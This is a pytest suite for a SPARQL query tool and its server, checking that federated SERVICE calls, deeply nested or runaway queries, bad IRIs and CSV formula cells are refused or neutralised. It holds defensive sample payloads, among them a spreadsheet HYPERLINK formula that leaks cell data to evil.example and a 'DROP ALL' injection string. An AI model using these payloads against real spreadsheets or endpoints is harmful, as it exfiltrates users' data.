"""Queries that must not hurt the host (issue 18): each measured case, its own test, bounded in time."""

from __future__ import annotations

import http.server
import os
import subprocess
import sys
import threading
import urllib.error
import urllib.parse
import urllib.request

import pytest
from conftest import MINI, ROOT, run_kg

from graph.serve.server import free_port, wait_for_port

DEEP = "SELECT * WHERE " + "{" * 3000 + " ?s ?p ?o " + "}" * 3000
CROSS = "SELECT * WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l . ?m ?n ?o . ?p ?q ?r }"


def clean_error(r, *fragments):
    assert r.returncode == 1, (r.returncode, r.stderr)
    assert "Traceback" not in r.stderr and r.stdout == ""
    for f in fragments:
        assert f in r.stderr, r.stderr


class Recorder(http.server.BaseHTTPRequestHandler):
    hits: list = []

    def do_GET(self):  # noqa: N802
        Recorder.hits.append(self.path)
        self.send_response(500)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *args):
        pass


@pytest.fixture
def listener():
    """A loopback server that records every request a SERVICE would send it."""
    Recorder.hits = []
    server = http.server.HTTPServer(("127.0.0.1", 0), Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}/sparql"
    server.shutdown()


def test_service_is_refused_and_sends_nothing(listener):
    r = run_kg("query", f"SELECT * WHERE {{ SERVICE <{listener}> {{ ?s ?p ?o }} }}", "--seeds", MINI, timeout=60)
    clean_error(r, "query:1:18: error: SERVICE", "--allow-service")
    assert Recorder.hits == []


def test_service_in_a_string_or_comment_is_not_refused():
    r = run_kg("query", "SELECT ?x WHERE { BIND('SERVICE {' AS ?x) } # SERVICE <x>", "--seeds", MINI, timeout=60)
    assert r.returncode == 0 and "SERVICE {" in r.stdout, r.stderr


def test_service_with_an_unbound_variable_is_a_clean_error():
    q = "SELECT * WHERE { SERVICE ?u { ?s ?p ?o } }"
    clean_error(run_kg("query", q, "--seeds", MINI, timeout=60), "SERVICE", "hint:")
    r = run_kg("query", q, "--allow-service", "--seeds", MINI, timeout=60)
    clean_error(r, "query: error:")


def test_a_runaway_query_stops_at_the_timeout():
    r = run_kg("query", "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l }",
               "--timeout", "1", "--seeds", MINI, timeout=60)
    clean_error(r, "longer than 1 s", "--timeout")


def test_a_huge_answer_is_refused_by_the_row_guard():
    r = run_kg("query", CROSS, "--max-rows", "1000", "--seeds", MINI, timeout=60)
    clean_error(r, "more than 1,000 rows", "--max-rows")


def test_a_query_that_outgrows_its_memory_is_stopped():
    r = run_kg("query", CROSS, "--max-rows", "0", "--max-memory-mb", "100", "--timeout", "0", "--seeds", MINI,
               timeout=120)
    clean_error(r, "more than the 100 MB", "--max-memory-mb")
    assert r.stderr.count("\n") == 2


def test_ordinary_queries_run_under_the_default_memory_limit():
    r = run_kg("query", "SELECT (COUNT(*) AS ?n) WHERE { ?s ?p ?o }", "-f", "json", "--seeds", MINI, timeout=60)
    assert r.returncode == 0 and '"n"' in r.stdout, r.stderr


@pytest.mark.parametrize("cell", ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+1+2", "-3+cmd", "@SUM(A1)",
                                  "\tx", "'=x"])
def test_csv_answers_neutralise_formula_cells(cell):
    import csv
    import io

    from graph.exports.spreadsheet import restore

    literal = cell.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t")
    q = f'SELECT ?text ?n WHERE {{ BIND("{literal}" AS ?text) BIND(-2 AS ?n) }}'
    r = run_kg("query", q, "-f", "csv", "--seeds", MINI, timeout=60)
    assert r.returncode == 0, r.stderr
    [header, row] = list(csv.reader(io.StringIO(r.stdout)))
    assert row[0].startswith("'") and row[0][1:2] in "=+-@\t'" and restore(row[0]) == cell
    assert row[1] == "-2"  # a number stays a number


def test_deep_nesting_is_refused_before_the_engine(tmp_path):
    (tmp_path / "deep.rq").write_text(DEEP)
    r = run_kg("query", tmp_path / "deep.rq", "--seeds", MINI, timeout=60)
    clean_error(r, f"{tmp_path / 'deep.rq'}:1:116: error:", "more than 100 deep", "hint:")
    assert r.stderr.count("\n") <= 4


def test_nesting_up_to_the_limit_still_runs():
    q = "SELECT * WHERE " + "{" * 100 + " ?s ?p ?o " + "}" * 100 + " LIMIT 1"
    assert run_kg("query", q, "--seeds", MINI, timeout=60).returncode == 0


@pytest.mark.parametrize("value, words", [("<not an iri> } ; DROP ALL #>", "is not a valid IRI"),
                                          ("<>", "empty IRI")])
def test_bad_bind_iris_are_one_line_errors(value, words):
    r = run_kg("query", "leaders", "--bind", f"org={value}", "--seeds", MINI, timeout=60)
    clean_error(r, "--bind", words, "hint:")


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_a_fifo_query_file_is_refused_not_waited_on(tmp_path):
    os.mkfifo(tmp_path / "q.rq")
    clean_error(run_kg("query", tmp_path / "q.rq", "--seeds", MINI, timeout=60), "not a regular file")


def test_a_folder_or_device_is_refused(tmp_path):
    (tmp_path / "d.rq").mkdir()
    clean_error(run_kg("query", tmp_path / "d.rq", "--seeds", MINI, timeout=60), "not a regular file")


def post(url: str, data: bytes, content_type: str = "application/x-www-form-urlencoded"):
    req = urllib.request.Request(url, data=data, method="POST", headers={"Content-Type": content_type})
    try:
        with urllib.request.urlopen(req, timeout=30) as resp:
            return resp.status, resp.read().decode()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read().decode()


@pytest.mark.slow
def test_kg_serve_refuses_hostile_queries_and_keeps_answering(listener):
    port = free_port()
    proc = subprocess.Popen([sys.executable, "-m", "graph", "serve", "-q", "--port", str(port), "--timeout", "2",
                             "--seeds", str(MINI)], cwd=ROOT, stderr=subprocess.PIPE, text=True)
    try:
        assert wait_for_port("127.0.0.1", port, timeout=60, process=proc)
        url = f"http://127.0.0.1:{port}/query"
        status, body = post(url, urllib.parse.urlencode({"query": DEEP}).encode())
        assert status == 400 and "more than 100 deep" in body
        status, body = post(url, f"SELECT * WHERE {{ SERVICE <{listener}> {{ ?s ?p ?o }} }}".encode(),
                            "application/sparql-query")
        assert status == 400 and "SERVICE" in body and "--allow-service" in body
        assert Recorder.hits == []
        status, body = post(url, urllib.parse.urlencode(
            {"query": "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l . ?m ?n ?o }"}
        ).encode())
        assert status in (500, 503) and body
        status, body = post(url, urllib.parse.urlencode({"query": "ASK { ?s ?p ?o }"}).encode())
        assert status == 200 and "true" in body
    finally:
        proc.terminate()
        proc.wait(timeout=30)
    assert "Traceback" not in proc.stderr.read()


def test_kg_serve_csv_answers_neutralise_formula_cells_as_kg_query_does():
    """The endpoint's ``text/csv`` answer has the same cells as ``kg query --format csv`` prints."""
    from graph.serve.answer import load_store, query_work

    q = 'SELECT ?text ?n WHERE { BIND("=HYPERLINK(\\"http://evil.example/?leak=\\"&A1)" AS ?text) BIND(-2 AS ?n) }'
    r = run_kg("query", q, "-f", "csv", "--seeds", MINI, timeout=60)
    assert r.returncode == 0, r.stderr
    status, *body = query_work(load_store([]), {"query": [q]}, "text/csv")()
    import csv
    import io

    served = list(csv.reader(io.StringIO(b"".join(body).decode(), newline="")))
    assert status.startswith(b"200 text/csv") and served == list(csv.reader(io.StringIO(r.stdout)))
    assert served[1][0].startswith("'=HYPERLINK") and served[1][1] == "-2"
